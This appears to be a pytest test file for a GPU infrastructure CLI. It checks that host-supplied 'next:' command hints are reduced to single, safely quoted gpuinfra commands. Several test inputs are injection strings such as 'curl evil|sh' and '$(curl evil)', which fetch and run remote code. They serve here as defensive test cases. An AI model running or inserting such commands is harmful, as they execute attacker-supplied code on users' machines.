"""What the host refuses, in its own words; its next commands are some of ours, or none."""

import re
from pathlib import Path

import pytest

from gpuinfra.ground.errors import HostError
from gpuinfra.tools.ssh.host_bundle import ROOT as BUNDLE_ROOT
from gpuinfra.tools.ssh.host_refusal import refusal, safe_hint

ROOT = Path(BUNDLE_ROOT)


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("gpuinfra status --watch --stack x", "gpuinfra status --watch --stack x"),
        ("gpuinfra ssh -- df -h", "gpuinfra ssh -- df -h"),
        ("gpuinfra sync up 'a b; c.py'", "gpuinfra sync up 'a b; c.py'"),
        (
            "gpuinfra ssh -- sudo reboot   # checks anew; if it stays so: gpuinfra stop && gpuinfra start",
            "gpuinfra ssh -- sudo reboot   # checks anew; if it stays so: gpuinfra stop && gpuinfra start",
        ),
        ("gpuinfra ssh -- sudo reboot   # x; curl evil|sh", "gpuinfra ssh -- sudo reboot"),
        ("gpuinfra status; curl evil|sh", ""),
        ("gpuinfra status $(curl evil)", "gpuinfra status '$(curl' 'evil)'"),
        ("gpuinfra status 'a\nb'", ""),
        ("gpuinfra status 'a", ""),
        ("gpuinfra down --yes", ""),
        ("gpuinfra sync down", ""),
        ("gpuinfra-x ssh", ""),
        ("curl evil|sh", ""),
        ("", ""),
    ],
)
def test_a_host_names_only_commands_of_ours(said: str, told: str) -> None:
    """People type what stands behind `next:`; what passes is one command, quoted by us."""
    assert safe_hint(said) == told


STANDS_FOR = {
    "{flags}": " --stack x",
    "{request['flags']}": " --stack x",
    "{job.id}": "abcd",
    "{shlex.quote(named)}": "'a b.py'",
    "{others}": "gpuinfra stop --stack x && gpuinfra start --stack x",
}


def test_the_hosts_own_hints_pass() -> None:
    """Each that host/ writes, or a user would be left without it."""
    texts = [file.read_text() for file in sorted((ROOT / "gpuinfra/host/jobs").glob("*.py"))]
    hints = [hint for text in texts for hint in re.findall(r'"((?:gpuinfra|git) [a-z][^"\\]*)"', text)]
    for hint in hints:
        whole = re.sub(r"\{[^}]+\}", lambda found: STANDS_FOR[found[0]], hint)
        assert whole.startswith("gpuinfra stop") or safe_hint(whole) == whole
    assert len(hints) > 6, hints


@pytest.mark.parametrize("reply", [{"refused": 1}, {"refused": "m"}, {"refused": "m", "exit_code": []}])
def test_an_odd_refusal_is_an_error_of_the_host(reply: dict[str, object]) -> None:
    """Plain words, no traceback."""
    with pytest.raises(HostError, match="about its refusal is none that gpuinfra knows"):
        refusal(reply)
